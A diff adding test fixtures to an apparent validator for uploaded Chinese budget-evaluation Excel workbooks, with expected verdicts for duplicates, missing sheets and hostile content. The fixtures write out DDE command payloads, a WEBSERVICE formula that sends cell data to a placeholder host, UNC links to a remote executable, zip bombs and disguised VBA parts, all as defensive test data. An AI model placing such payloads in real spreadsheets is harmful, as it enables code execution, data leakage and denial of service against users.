@@ -622,6 +622,168 @@ def history_date_as_text() -> bytes:  # accepted: a date typed as text
     return set_cell("整改记录", 2, "日期", "2024年3月1日")
 
 
+# --- issue 13: what a careless copy or a hostile part did silently ------------------------------------------
+
+def _copy_row(sheet: str, row: int, changes: dict[str, object] | None = None) -> bytes:
+    """Row ``row`` of ``sheet`` appended again at the end, with some cells (by header) changed."""
+    def mutate(wb: openpyxl.Workbook) -> None:
+        ws = wb[sheet]
+        headers = [c.value for c in ws[1]]
+        values = [c.value for c in ws[row]]
+        for header, value in (changes or {}).items():
+            values[headers.index(header)] = value
+        ws.append(values)
+
+    return via_openpyxl(mutate)
+
+
+def duplicate_budget_line() -> bytes:  # the same unit, project and amounts: every total counts it twice
+    return _copy_row("预算执行", 2)
+
+
+def duplicate_budget_line_other_amounts() -> bytes:
+    return _copy_row("预算执行", 2, {"预算金额（万元）": 100, "实际执行金额（万元）": 50, "报告执行率（%）": 50})
+
+
+def duplicate_score_by_full_name() -> bytes:  # the unique check compares the cells: 全称 vs 简称 passed it
+    return _copy_row("指标评分", 2, {"单位": "长沙市数据局"})
+
+
+def duplicate_problem_text() -> bytes:
+    return _copy_row("问题", 2, {"问题编号": "P1-9", "序号": 9})
+
+
+def duplicate_recommendation_text() -> bytes:
+    return _copy_row("建议", 2, {"建议编号": "R1-9", "序号": 9})
+
+
+def duplicate_rectification_task() -> bytes:
+    return _copy_row("整改", 2, {"整改编号": "Z99"})
+
+
+def _drop_sheet(name: str) -> bytes:
+    def mutate(wb: openpyxl.Workbook) -> None:
+        del wb[name]
+
+    return via_openpyxl(mutate)
+
+
+def missing_budget_sheet() -> bytes:  # 评价信息 still states 资金总额 14,331.38
+    return _drop_sheet("预算执行")
+
+
+def missing_scores_sheet() -> bytes:  # 评价结果 still states the scores
+    return _drop_sheet("指标评分")
+
+
+def missing_achievements_sheet() -> bytes:
+    return _drop_sheet("产出成效")
+
+
+def _bomb_part(part: str, declared: int = 20_000) -> bytes:
+    """The sample with one more part that inflates to 1 GiB while its header declares ``declared`` bytes."""
+    deflated, crc, _ = zeros_gib()
+    return raw_zip([*sample_entries(), (part, deflated, crc, declared)])
+
+
+def media_bomb_lying_header() -> bytes:  # an image under xl/media/: not a sheet, never read by calamine
+    return _bomb_part("xl/media/image1.png")
+
+
+def thumbnail_bomb_lying_header() -> bytes:  # the one picture part accepted: inflated and bounded like all
+    return _bomb_part("docProps/thumbnail.jpeg")
+
+
+def formula_on_extra_sheet() -> bytes:
+    return via_openpyxl(lambda wb: wb.create_sheet("草稿").cell(row=1, column=1, value="=cmd|' /C calc'!A0"))
+
+
+def formula_outside_columns() -> bytes:  # column J of 预算执行 has no header: no reader looks at it
+    return edit_sheet("预算执行", put_cell("J2", '<c r="J2"><f>WEBSERVICE("http://x.invalid/?"&amp;A2)</f></c>'))
+
+
+def hyperlink_formula_with_result() -> bytes:
+    return edit_sheet("预算执行", put_cell(
+        "K3", '<c r="K3" t="str"><f>HYPERLINK("\\\\host\\share\\a.exe","打开")</f><v>打开</v></c>'))
+
+
+def _rel(rid: str, rtype: str, target: str, external: bool = True) -> bytes:
+    mode = ' TargetMode="External"' if external else ""
+    return (f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            f'{rtype}" Target="{_escape(target)}"{mode}/>').encode()
+
+
+def _add_rel(rels_part: str, rel: bytes) -> Edit:
+    return lambda xml: xml.replace(b"</Relationships>", rel + b"</Relationships>", 1)
+
+
+def external_link_part() -> bytes:
+    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
+            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'
+            b"</externalLink>")
+    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            + _rel("rId1", "externalLinkPath", "file:///\\\\host\\share\\book.xlsx") + b"</Relationships>")
+    return edit_zip({"xl/_rels/workbook.xml.rels": _add_rel("", _rel("rId99", "externalLink",
+                                                                     "externalLinks/externalLink1.xml", False))},
+                    extra={"xl/externalLinks/externalLink1.xml": link,
+                           "xl/externalLinks/_rels/externalLink1.xml.rels": rels})
+
+
+_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+
+
+def vba_under_another_name() -> bytes:  # no vbaProject.bin, no macro content type: the bytes say it
+    return edit_zip(extra={"xl/printerSettings/printerSettings1.bin": _OLE})
+
+
+def vba_content_type_other_name() -> bytes:
+    return edit_zip({"[Content_Types].xml": lambda xml: xml.replace(b"</Types>", (
+        b'<Override PartName="/xl/data.dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'))},
+        extra={"xl/data.dat": b"\x00" * 64})
+
+
+def activex_part() -> bytes:
+    return edit_zip(extra={"xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
+                                                       b'office/2006/activeX" ax:classid="{0}"/>'})
+
+
+def form_control() -> bytes:  # a button or check box, which can have a macro assigned
+    return edit_zip(extra={"xl/ctrlProps/ctrlProp1.xml": b'<formControlPr xmlns="http://schemas.microsoft.com/'
+                                                         b'office/spreadsheetml/2009/9/main" objectType="Button" '
+                                                         b'fmlaMacro="[0]!Macro1"/>'})
+
+
+def embedded_object() -> bytes:
+    return edit_zip(extra={"xl/embeddings/Microsoft_Word_Document1.docx": b"PK\x05\x06" + bytes(18)})
+
+
+def unc_hyperlink() -> bytes:  # a cell's hyperlink to a file share: opened by a click in the downloaded copy
+    part = "xl/worksheets/_rels/" + sheet_parts()["预算执行"].rsplit("/", 1)[1] + ".rels"
+    return edit_zip({part: _add_rel(part, _rel("rId77", "hyperlink", "\\\\host\\share\\a.exe"))})
+
+
+def web_hyperlink() -> bytes:  # accepted: a web address, as Excel makes of a typed link in 佐证材料
+    part = "xl/worksheets/_rels/" + sheet_parts()["预算执行"].rsplit("/", 1)[1] + ".rels"
+    return edit_zip({part: _add_rel(part, _rel("rId77", "hyperlink", "https://www.example.gov.cn/a.pdf"))})
+
+
+def dde_defined_name() -> bytes:
+    return edit_zip({"xl/workbook.xml": lambda xml: xml.replace(
+        b"</sheets>", b"</sheets><definedNames><definedName name=\"x\">cmd|' /C calc'!A0</definedName>"
+                      b"</definedNames>", 1)})
+
+
+MANY_SHEETS = 300
+
+
+def many_extra_sheets() -> bytes:
+    def mutate(wb: openpyxl.Workbook) -> None:
+        for i in range(MANY_SHEETS):
+            wb.create_sheet(f"草稿{i}")
+
+    return via_openpyxl(mutate)
+
+
 # --- what the reader must say -----------------------------------------------------------------------------
 
 @dataclass(frozen=True)
@@ -726,6 +888,32 @@ CASES: tuple[Case, ...] = (
     _c(sheet_name_with_space, "warning", "单位 ", None, "", "多余空格", "已按“单位”读取"),
     _c(header_with_space, "warning", B, 1, "预算金额（万元）", "多余空格"),
     _c(history_date_as_text, "ok", "整改记录", 2, "日期"),
+    # issue 13: duplicated rows, missing parts, parts and formulas the stored file must not carry
+    _c(duplicate_budget_line, "error", B, 4, "项目名称", "与第2行重复", "多算一次", cli=True),
+    _c(duplicate_budget_line_other_amounts, "warning", B, 4, "项目名称", "与第2行", "金额不同", "都会计入"),
+    _c(duplicate_score_by_full_name, "error", "指标评分", 116, "单位", "与第2行重复", "专家A"),
+    _c(duplicate_problem_text, "error", "问题", 21, "问题内容", "与第2行", "重复"),
+    _c(duplicate_recommendation_text, "error", "建议", 20, "建议内容", "与第2行", "重复"),
+    _c(duplicate_rectification_task, "error", "整改", 21, "整改事项", "与第2行", "重复"),
+    _c(missing_budget_sheet, "warning", "评价信息", 16, "报告资金总额（万元）", "无法核对", "没有任何预算行"),
+    _c(missing_scores_sheet, "warning", "评价结果", 2, "报告得分", "无法核对", "市数据局"),
+    _c(missing_achievements_sheet, "warning", "产出成效", None, "", "没有“产出成效”工作表", "看板将没有产出成效"),
+    _c(media_bomb_lying_header, "error", FILE, None, "", "图片", "xl/media/image1.png", hostile=True),
+    _c(thumbnail_bomb_lying_header, "error", FILE, None, "", "大于文件头中登记的大小", "docProps/thumbnail.jpeg",
+       hostile=True),
+    _c(formula_on_extra_sheet, "error", "草稿", 1, "", "是公式", "原样保存", cli=True),
+    _c(formula_outside_columns, "error", B, 2, "", "J2 是公式"),
+    _c(hyperlink_formula_with_result, "error", B, 3, "", "K3 是公式"),
+    _c(external_link_part, "error", FILE, None, "", "外部链接", "xl/externalLinks/externalLink1.xml", hostile=True),
+    _c(vba_under_another_name, "error", FILE, None, "", "宏", "xl/printerSettings/printerSettings1.bin",
+       hostile=True),
+    _c(vba_content_type_other_name, "error", FILE, None, "", "宏（VBA 工程）", "xl/data.dat"),
+    _c(activex_part, "error", FILE, None, "", "ActiveX", "xl/activeX/activeX1.xml"),
+    _c(embedded_object, "error", FILE, None, "", "嵌入", "Microsoft_Word_Document1.docx"),
+    _c(form_control, "error", FILE, None, "", "表单控件", "xl/ctrlProps/ctrlProp1.xml"),
+    _c(unc_hyperlink, "error", FILE, None, "", "外部链接", "share"),
+    _c(web_hyperlink, "ok", FILE, None, ""),
+    _c(dde_defined_name, "error", FILE, None, "", "名称", "cmd|"),
 )
 
 BY_NAME = {c.name: c for c in CASES}
